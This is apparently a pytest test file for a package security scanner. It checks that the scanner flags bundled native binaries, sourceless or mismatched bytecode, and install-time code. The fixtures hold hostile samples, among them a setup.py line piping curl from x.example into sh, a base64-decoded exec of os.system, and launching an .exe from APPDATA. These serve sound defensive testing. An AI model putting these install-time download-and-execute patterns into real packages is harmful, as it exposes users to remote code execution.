"""Native executables, bytecode and install-time code, through the whole check."""

from __future__ import annotations

import struct
from pathlib import Path

from behaviourkit import PLATFORM, installed, zip_file

from wellcheck.artifact.memory import MemoryTree
from wellcheck.checks import CheckContext
from wellcheck.inventory import collect
from wellcheck.models import ArtifactInfo, Component, ComponentKind, Finding, Severity
from wellcheck.scan.target import scan_artifacts
from wellcheck.signals.behaviour import BehaviourCheck

ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 120
PE = b"MZ" + b"\x00" * 58 + struct.pack("<I", 0x80) + b"\x00" * 0x40 + b"PE\x00\x00" + b"\x00" * 64
MACHO = b"\xcf\xfa\xed\xfe" + b"\x00" * 124


def _rules(tmp_path: Path, files: dict[str, bytes]) -> dict[str, Finding]:
    artifact = zip_file(tmp_path / "n.zip", files)
    [result] = scan_artifacts([str(artifact)], [BehaviourCheck(workers=1)]).results
    return {f.rule: f for f in result.findings}


def test_a_native_binary_in_a_pure_distribution_is_reported_whatever_its_name(
    tmp_path: Path,
) -> None:
    files = installed("pureish", "1.0", {"pureish/__init__.py": b"", "pureish/logo.png": ELF})
    found = _rules(tmp_path, files)["WC-CODE-NATIVE-BUNDLED"]
    assert found.severity is Severity.MEDIUM  # an ELF named .png
    assert "pureish/logo.png (ELF)" in found.evidence


def test_launchers_in_a_pure_wheel_are_low(tmp_path: Path) -> None:
    files = installed(
        "setuptools", "80.0", {"setuptools/__init__.py": b"", "setuptools/cli-64.exe": PE}
    )
    found = _rules(tmp_path, files)
    assert found["WC-CODE-NATIVE-BUNDLED"].severity is Severity.LOW
    assert max(f.severity for f in found.values()) is Severity.LOW


def test_a_bundled_binary_the_code_runs_at_import_is_critical(tmp_path: Path) -> None:
    code = b"import os, subprocess\n"
    code += b"subprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n"
    files = installed("runner", "1.0", {"runner/__init__.py": code, "runner/helper": MACHO})
    assert _rules(tmp_path, files)["WC-CODE-NATIVE-BUNDLED"].severity is Severity.CRITICAL


def test_a_platform_tagged_wheel_may_ship_an_executable(tmp_path: Path) -> None:
    code = b"import subprocess\nsubprocess.run(['ruff'])\n"
    files = installed(
        "rufflike",
        "1.0",
        {"rufflike/__main__.py": code, "rufflike/bin/ruff": ELF},
        tag="py3-none-manylinux_2_17_x86_64",
    )
    assert "WC-CODE-NATIVE-BUNDLED" not in _rules(tmp_path, files)


def test_payloads_in_test_modules_are_shown_low(tmp_path: Path) -> None:
    import base64

    payload = base64.b64encode(b"import os; os.system('id')").decode()
    code = f"import base64\nexec(base64.b64decode('{payload}'))\n".encode()
    files = installed("tested", "1.0", {"tested/__init__.py": b"", "tested/tests/test_x.py": code})
    found = _rules(tmp_path, files)
    assert found["WC-CODE-DECODE-EXEC"].severity is Severity.LOW
    assert "in a test module" in found["WC-CODE-DECODE-EXEC"].evidence


def test_platform_wheels_may_ship_and_load_their_own_libraries(tmp_path: Path) -> None:
    code = (
        b"import ctypes, os\nLIB = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'x.so'))\n"
    )
    files = installed(
        "fastlib", "1.0", {"fastlib/__init__.py": code, "fastlib/x.so": ELF}, tag=PLATFORM
    )
    assert _rules(tmp_path, files) == {}


def test_a_pure_distribution_loading_a_library_from_its_directory(tmp_path: Path) -> None:
    code = (
        b"import ctypes, os\nLIB = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'x.dll'))\n"
    )
    files = installed("loader", "1.0", {"loader/__init__.py": code})
    assert _rules(tmp_path, files)["WC-CODE-NATIVE-LOAD"].severity is Severity.MEDIUM


def _pyc(flags: int, key: bytes = b"\xa7\x0d\x0d\x0a", body: bytes = b"") -> bytes:
    return key + struct.pack("<I", flags) + body.ljust(8, b"\x00")[:8] + b"\xe3" + b"\x00" * 20


def test_bytecode_without_source_is_reported_never_unmarshalled(tmp_path: Path) -> None:
    files = installed("closed", "1.0", {"closed/__init__.pyc": _pyc(0), "closed/core.pyc": _pyc(0)})
    found = _rules(tmp_path, files)["WC-CODE-SOURCELESS"]
    assert found.severity is Severity.MEDIUM
    assert "closed/__init__.pyc" in found.evidence


def test_unchecked_bytecode_that_is_not_its_source(tmp_path: Path) -> None:
    source = b"def f():\n    return 1\n"
    files = installed(
        "cached",
        "1.0",
        {
            "cached/__init__.py": source,
            "cached/__pycache__/__init__.cpython-312.pyc": _pyc(0b01, body=b"\x01" * 8),
        },
    )
    found = _rules(tmp_path, files)["WC-CODE-PYC-MISMATCH"]
    assert found.severity is Severity.HIGH


def test_matching_unchecked_bytecode_is_fine(tmp_path: Path) -> None:
    import _imp

    source = b"def f():\n    return 1\n"
    key = b"\xa7\x0d\x0d\x0a"
    digest = _imp.source_hash(int.from_bytes(key, "little"), source)
    files = installed(
        "cached",
        "1.0",
        {
            "cached/__init__.py": source,
            "cached/__pycache__/__init__.cpython-312.pyc": _pyc(0b01, key, digest),
        },
    )
    assert "WC-CODE-PYC-MISMATCH" not in _rules(tmp_path, files)


def test_a_broken_source_with_bytecode_beside_it(tmp_path: Path) -> None:
    files = installed(
        "broken",
        "1.0",
        {
            "broken/__init__.py": b"import os\nos.system('id')\ndef x(:\n",
            "broken/__pycache__/__init__.cpython-312.pyc": _pyc(0),
        },
    )
    artifact = zip_file(tmp_path / "b.zip", files)
    [result] = scan_artifacts([str(artifact)], [BehaviourCheck(workers=1)]).results
    assert [f.rule for f in result.findings if f.kind == "behaviour"] == ["WC-CODE-UNPARSABLE"]
    assert "does not parse" in result.skipped[0].reason


def test_setup_py_of_an_sdist_is_install_time_code() -> None:
    setup = b"import os\nfrom setuptools import setup\n"
    setup += b"os.system('curl -s http://x.example/a | sh')\nsetup()\n"
    module = b"import os\ndef f():\n    os.system('echo hi')\n"
    tree = MemoryTree(
        {
            "pkg-1.0/setup.py": setup,
            "pkg-1.0/PKG-INFO": b"Name: pkg\n",
            "pkg-1.0/pkg/__init__.py": module,
        }
    )
    sdist = Component("pkg", "1.0", ComponentKind.SDIST, "pkg-1.0", site_root="pkg-1.0")
    context = CheckContext(artifact=ArtifactInfo("pkg-1.0.tar.gz", "sdist"), trees=(tree,))
    found = BehaviourCheck(workers=1).run([sdist], context).findings
    [download] = [f for f in found if f.rule == "WC-CODE-DOWNLOAD-EXEC"]
    assert (download.severity, download.path) == (Severity.CRITICAL, "pkg-1.0/setup.py")
    assert "at install time" in download.evidence


def test_windows_payloads_matter_only_in_linux_artifacts() -> None:
    code = b"import os\nos.startfile(os.path.join(os.getenv('APPDATA'), 'u.exe'))\n"
    tree = MemoryTree(installed("winny", "1.0", {"winny/__init__.py": code}))
    rules = {}
    for kind in ("lambda-zip", "directory"):
        context = CheckContext(artifact=ArtifactInfo("x", kind), trees=(tree,))
        found = BehaviourCheck(workers=1).run(collect(tree), context).findings
        rules[kind] = {f.rule for f in found}
    assert "WC-CODE-WINDOWS-PAYLOAD" in rules["lambda-zip"]
    assert "WC-CODE-WINDOWS-PAYLOAD" not in rules["directory"]
